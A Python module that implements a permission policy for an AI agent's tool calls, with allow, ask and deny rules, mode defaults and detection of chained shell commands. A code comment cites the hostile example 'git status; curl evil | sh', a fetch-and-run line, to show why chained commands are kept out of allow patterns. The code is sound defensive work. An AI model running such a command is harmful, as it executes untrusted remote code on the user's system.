"""Who may run what: the permission policy for tool calls, as a pure decision.

Every tool call gets one of three verdicts before it starts: **allow** (it runs), **ask** (a
person approves or denies it first; the pod waits in ``awaiting_approval``), or **deny** (it
does not run; the model gets a result that says so). The verdict comes from, in order:

1. ``deny`` rules — the first match denies;
2. ``allow`` rules, and what a person allowed "always" earlier in this session;
3. ``ask`` rules;
4. the mode's default for the tool's kind:

   ============  =========  ========  =========  =======
   mode          read       edit      execute    other
   ============  =========  ========  =========  =======
   default       allow      ask       ask        ask
   accept-edits  allow      allow     ask        ask
   yolo          allow      allow     allow      allow
   read-only     allow      deny      deny       deny
   ============  =========  ========  =========  =======

A rule is a tool name or glob (``bash``, ``mcp__github__*``), optionally with a pattern for the
call's subject in parentheses: the command of ``bash`` (``bash(git status)``,
``bash(pytest *)``), the path of file tools (``write_file(docs/*)``). Globs are shell-style
(``*``, ``?``, ``[...]``); a command pattern matches the whole command line, and an ``allow``
pattern never matches a command that chains, pipes, substitutes or redirects (``;``, ``&``,
``|``, backquotes, ``$(``, ``<``, ``>``, newlines): such a command asks.
"""

from __future__ import annotations

import fnmatch
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any, Literal

from pydantic import BaseModel, ConfigDict, Field, field_validator

Verdict = Literal["allow", "ask", "deny"]
Mode = Literal["default", "accept-edits", "yolo", "read-only"]
ToolKind = Literal["read", "edit", "execute", "other"]

MODE_DEFAULTS: dict[Mode, dict[ToolKind, Verdict]] = {
    "default": {"read": "allow", "edit": "ask", "execute": "ask", "other": "ask"},
    "accept-edits": {"read": "allow", "edit": "allow", "execute": "ask", "other": "ask"},
    "yolo": {"read": "allow", "edit": "allow", "execute": "allow", "other": "allow"},
    "read-only": {"read": "allow", "edit": "deny", "execute": "deny", "other": "deny"},
}
"""What each mode does with a tool of each kind when no rule matches."""

WIDENING_MODES: frozenset[Mode] = frozenset({"accept-edits", "yolo"})
"""Modes that allow more than ``default``: never taken from a workspace's own config."""


class PermissionsConfig(BaseModel):
    """The ``[permissions]`` table of a config file."""

    model_config = ConfigDict(extra="forbid", use_attribute_docstrings=True)

    mode: Mode = "default"
    """``default`` asks before bash and edits, ``accept-edits`` allows edits, ``yolo`` allows
    everything, ``read-only`` denies writes and bash (docs/permissions.md)."""
    allow: list[str] = Field(default_factory=list)
    """Rules that allow without asking (e.g. ``"bash(git status)"``)."""
    ask: list[str] = Field(default_factory=list)
    """Rules that ask even where the mode would allow."""
    deny: list[str] = Field(default_factory=list)
    """Rules that deny, whatever else says."""

    @field_validator("allow", "ask", "deny")
    @classmethod
    def _rules_parse(cls, rules: list[str]) -> list[str]:
        for rule in rules:
            Rule.parse(rule)
        return rules


@dataclass(frozen=True, slots=True)
class Rule:
    """One permission rule: a tool glob and, optionally, a subject glob."""

    tool: str
    subject: str | None = None
    exact: bool = False
    """The subject is a literal (a command a person approved), not a glob."""

    @classmethod
    def parse(cls, text: str) -> Rule:
        """``tool`` or ``tool(pattern)``; ValueError when it is neither."""
        text = text.strip()
        if "(" in text:
            if not text.endswith(")"):
                raise ValueError(f"rule {text!r}: a pattern must close with ')'")
            tool, _, rest = text.partition("(")
            subject = rest[:-1]
        else:
            tool, subject = text, None
        if not tool.strip():
            raise ValueError(f"rule {text!r} names no tool")
        return cls(tool=tool.strip(), subject=subject)

    def matches(self, tool: str, subject: str) -> bool:
        """Whether the rule covers this call."""
        if not fnmatch.fnmatchcase(tool, self.tool):
            return False
        if self.subject is None:
            return True
        return subject == self.subject if self.exact else fnmatch.fnmatchcase(subject, self.subject)

    def __str__(self) -> str:
        return self.tool if self.subject is None else f"{self.tool}({self.subject})"


def subject_of(tool: str, arguments: dict[str, Any]) -> str:
    """What a rule's pattern is matched against: a command, or a path, or nothing."""
    for key in ("command", "path"):
        value = arguments.get(key)
        if isinstance(value, str):
            return value
    return ""


@dataclass(frozen=True, slots=True)
class Decision:
    """A verdict and why, in words for the model and for people."""

    verdict: Verdict
    reason: str


@dataclass
class Policy:
    """The permission policy of one pod: its rules, mode, and this session's "always"."""

    mode: Mode = "default"
    allow: list[Rule] = field(default_factory=list)
    ask: list[Rule] = field(default_factory=list)
    deny: list[Rule] = field(default_factory=list)
    granted: list[Rule] = field(default_factory=list)
    """Rules a person added by answering "always" (for the pod's life)."""

    @classmethod
    def from_config(
        cls,
        config: PermissionsConfig,
        *,
        extra_allow: Iterable[str] = (),
        extra_deny: Iterable[str] = (),
    ) -> Policy:
        """The policy a config describes, plus rules from elsewhere (the command line, the
        MCP servers' entries)."""
        return cls(
            mode=config.mode,
            allow=[Rule.parse(r) for r in [*config.allow, *extra_allow]],
            ask=[Rule.parse(r) for r in config.ask],
            deny=[Rule.parse(r) for r in [*config.deny, *extra_deny]],
        )

    def decide(self, tool: str, kind: ToolKind, arguments: dict[str, Any]) -> Decision:
        """The verdict for one call."""
        subject = subject_of(tool, arguments)
        for rule in self.deny:
            if rule.matches(tool, subject):
                return Decision("deny", f"denied by the rule {rule}")
        compound = "command" in arguments and _is_compound(subject)
        for rule in [*self.allow, *self.granted]:
            # ``bash(git status)`` must not allow ``git status; curl evil | sh``: a command
            # pattern allows a single simple command only (deny and ask rules still apply).
            # A command a person approved "always" is matched whole, so it may chain.
            pattern = rule.subject is not None and not rule.exact
            if rule.matches(tool, subject) and not (compound and pattern):
                return Decision("allow", f"allowed by the rule {rule}")
        for rule in self.ask:
            if rule.matches(tool, subject):
                return Decision("ask", f"the rule {rule} asks")
        verdict = MODE_DEFAULTS[self.mode][kind]
        return Decision(verdict, f"{self.mode} mode {_VERBS[verdict]} {kind} tools")

    def offered(self, tool: str, kind: ToolKind) -> bool:
        """Whether to offer a tool to the model at all: not when every call would be denied."""
        if any(r.subject is None and r.matches(tool, "") for r in self.deny):
            return False
        if MODE_DEFAULTS[self.mode][kind] != "deny":
            return True
        return any(r.matches(tool, r.subject or "") for r in [*self.allow, *self.ask])

    def grant(self, tool: str, arguments: dict[str, Any]) -> Rule:
        """Allow calls like this one for the rest of the pod's life ("always")."""
        # A command is allowed exactly as shown (``*`` in it is no wildcard); a file tool for
        # its whole kind of call.
        command = arguments.get("command")
        rule = Rule(tool, command, exact=True) if isinstance(command, str) else Rule(tool)
        self.granted.append(rule)
        return rule


_SHELL_CONTROL = (";", "&", "|", "`", "$(", ">", "<", "\n")


def _is_compound(command: str) -> bool:
    """Whether a command line chains, pipes, substitutes or redirects."""
    return any(token in command for token in _SHELL_CONTROL)


_VERBS: dict[Verdict, str] = {"allow": "allows", "ask": "asks before", "deny": "denies"}
